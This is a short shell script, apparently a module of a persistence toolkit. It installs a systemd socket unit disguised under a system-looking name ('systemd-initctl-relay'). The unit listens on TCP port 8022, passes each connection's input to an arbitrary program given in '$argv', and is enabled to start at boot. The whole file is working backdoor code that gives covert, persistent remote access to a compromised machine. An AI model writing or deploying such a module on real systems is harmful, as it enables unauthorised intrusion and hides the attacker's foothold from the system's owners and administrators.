#!/bin/sh
# systemd-socket: a socket that starts a program a connection
# (systemd.socket(5))
. "${0%/*}/lib.sh"
payload
n=$(named relay systemd-initctl-relay)
put "/etc/systemd/system/$n.socket" 644 "$head" "[Socket]" \
	"ListenStream=8022" "Accept=yes" "[Install]" "WantedBy=sockets.target"
put "/etc/systemd/system/$n@.service" 644 "$head" "[Service]" \
	"StandardInput=socket" "ExecStart=$argv"
link "/etc/systemd/system/sockets.target.wants/$n.socket" \
	"/etc/systemd/system/$n.socket"
